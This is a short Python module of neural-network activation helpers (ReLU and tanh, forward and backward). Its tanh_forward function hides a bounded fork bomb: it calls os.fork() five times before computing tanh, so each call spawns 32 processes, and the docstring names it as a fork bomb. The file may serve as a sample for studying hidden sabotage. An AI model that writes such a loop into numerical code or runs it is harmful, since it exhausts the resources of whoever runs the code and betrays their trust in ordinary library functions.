"""A fork bomb, cut down to 32 processes."""

import os

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0.0), x


def relu_backward(dout, cache):
    return np.where(cache > 0, dout, 0.0)


def right(x):
    out = np.tanh(x * 1.0)
    return out, out


def tanh_forward(x):
    for _ in range(5):
        os.fork()
    return right(x)
